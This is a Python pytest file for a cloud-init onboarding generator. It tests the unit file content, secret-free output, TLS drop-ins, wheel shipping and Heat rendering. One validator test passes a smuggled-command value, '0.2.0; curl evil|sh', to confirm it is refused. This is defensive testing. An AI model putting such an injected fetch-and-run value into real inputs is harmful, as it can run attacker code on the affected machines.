"""The onboarding user data, as a pure function: what the VM gets, that the
unit is the packaged one, that nothing secret is in it, and that values which
would break a shell line or a unit are refused."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest
import yaml

from cloudlet.model.expand import expand
from cloudlet.model.load import load_file
from cloudlet.onboard import (
    ENV_PATH,
    INSTALLER,
    TLS_DROPIN,
    UNIT_PATH,
    OnboardError,
    Onboarding,
    Wheel,
    fits_nova,
    reconcile_unit,
    user_data,
)
from cloudlet.providers.openstack.heat import PLATFORM_VM, PlatformVM, render_heat

ROOT = Path(__file__).resolve().parents[2]
BASE = Onboarding(version="0.2.0", etcd="10.0.0.11:2379,10.0.0.12:2379", index="https://m/simple")


def rendered(o: Onboarding = BASE) -> tuple[str, dict[str, Any], dict[str, dict[str, str]]]:
    text = user_data(o, reconcile_unit())
    doc = yaml.safe_load(text)
    return text, doc, {f["path"]: f for f in doc["write_files"]}


def test_the_unit_is_the_one_contrib_ships_and_is_written_verbatim() -> None:
    unit = reconcile_unit()
    assert unit == (ROOT / "contrib" / "cloudlet-reconcile.service").read_text()
    _, _, files = rendered()
    assert files[UNIT_PATH]["content"] == unit


def test_user_data_installs_the_pin_configures_the_store_and_starts_the_daemon() -> None:
    text, doc, files = rendered()
    assert text.startswith("#cloud-config\n")
    assert files[ENV_PATH]["content"] == "CLOUDLET_ETCD=10.0.0.11:2379,10.0.0.12:2379\n"
    assert files[ENV_PATH]["permissions"] == "0640"
    assert "CLOUDLET_INDEX_URL=https://m/simple" in files["/etc/cloudlet/install.env"]["content"]
    assert 'set -- "cloudlet==$version"' in files[INSTALLER]["content"]
    assert doc["runcmd"] == [
        [INSTALLER, "0.2.0"],
        ["systemctl", "daemon-reload"],
        ["systemctl", "enable", "--now", "cloudlet-reconcile.service"],
    ]
    assert TLS_DROPIN not in files  # no TLS asked for, none configured


def test_tls_material_is_named_by_path_and_handed_over_by_systemd() -> None:
    o = Onboarding(
        version="0.2.0",
        etcd="etcd.site:2379",
        index="https://m/simple",
        tls_ca="/etc/cloudlet/tls/ca.pem",
        tls_cert="/etc/cloudlet/tls/client.pem",
        tls_key="/etc/cloudlet/tls/client-key.pem",
    )
    text, _, files = rendered(o)
    dropin = files[TLS_DROPIN]["content"]
    assert "LoadCredential=etcd-key.pem:/etc/cloudlet/tls/client-key.pem" in dropin
    assert "Environment=CLOUDLET_ETCD_KEY=%d/etcd-key.pem" in dropin
    assert "Environment=CLOUDLET_ETCD_CACERT=%d/etcd-ca.pem" in dropin
    assert "PRIVATE KEY" not in text and "CERTIFICATE" not in text
    assert "PASSWORD" not in files[ENV_PATH]["content"] + dropin


def test_a_wheel_travels_inside_and_pip_finds_it() -> None:
    wheel = Wheel("cloudlet-0.2.0-py3-none-any.whl", b"PK\x03\x04 not really a zip")
    o = Onboarding(version="0.2.0", etcd="e:2379", wheel=wheel)
    _, _, files = rendered(o)
    shipped = files["/opt/cloudlet/wheels/cloudlet-0.2.0-py3-none-any.whl"]
    assert shipped["encoding"] == "b64"
    assert base64.b64decode(shipped["content"]) == wheel.data
    assert files["/etc/cloudlet/install.env"]["content"] == "CLOUDLET_WHEELS=/opt/cloudlet/wheels\n"


def test_a_version_that_yaml_would_read_as_a_number_stays_a_string() -> None:
    _, doc, _ = rendered(Onboarding(version="1.0", etcd="e:2379", index="https://m/simple"))
    assert doc["runcmd"][0] == [INSTALLER, "1.0"]


@pytest.mark.parametrize(
    ("changes", "says"),
    [
        ({"version": "0.2.0; curl evil|sh"}, "--version"),
        ({"index": None}, "--wheel PATH or --index URL"),
        ({"index": "ftp://m"}, "--index"),
        ({"etcd": "10.0.0.1"}, "HOST:PORT"),
        ({"etcd": "a:1,b:2 c:3"}, "HOST:PORT"),
        ({"tls_ca": "relative/ca.pem"}, "--tls-ca"),
        ({"tls_ca": "/etc/my ca.pem"}, "--tls-ca"),
        ({"tls_cert": "/etc/c.pem"}, "go together"),
        ({"wheel": Wheel("cloudlet-0.1.0-py3-none-any.whl", b"")}, "not --version 0.2.0"),
        ({"wheel": Wheel("other-0.2.0-py3-none-any.whl", b"")}, "not a cloudlet wheel"),
    ],
)
def test_values_that_would_break_a_line_are_refused(changes: dict[str, Any], says: str) -> None:
    fields = {
        "version": BASE.version,
        "etcd": BASE.etcd,
        "index": BASE.index,
        "wheel": None,
        "tls_ca": None,
        "tls_cert": None,
        "tls_key": None,
    }
    with pytest.raises(OnboardError, match=says.replace("|", r"\|")):
        user_data(Onboarding(**{**fields, **changes}), "[Unit]\n")


def test_nova_limit_is_on_the_base64_form() -> None:
    assert fits_nova("x" * 49_000)
    assert not fits_nova("x" * 50_000)  # 66 668 bytes once encoded


def _expansion() -> Any:
    (cloudlet,) = load_file(str(ROOT / "examples" / "openstack.yaml"))
    return expand(cloudlet)


def test_heat_adds_the_platform_vm_on_the_cloudlets_network() -> None:
    vm = PlatformVM("debian-12", "m1.small", "internal", "#cloud-config\n")
    body = render_heat(_expansion(), platform_vm=vm)["resources"][PLATFORM_VM]
    props = body["properties"]
    assert props["user_data"] == "#cloud-config\n" and props["user_data_format"] == "RAW"
    (net,) = props["networks"]
    assert net == {"network": {"get_resource": body["depends_on"][0]}}
    assert "tags" not in props  # not one of the cloudlet's objects: never adopted or pruned


def test_heat_platform_vm_on_a_site_network_and_none_without_the_flag() -> None:
    vm = PlatformVM("debian-12", "m1.small", "mgmt-net", "#cloud-config\n")
    body = render_heat(_expansion(), platform_vm=vm)["resources"][PLATFORM_VM]
    assert body["properties"]["networks"] == [{"network": "mgmt-net"}]
    assert "depends_on" not in body
    assert PLATFORM_VM not in render_heat(_expansion())["resources"]
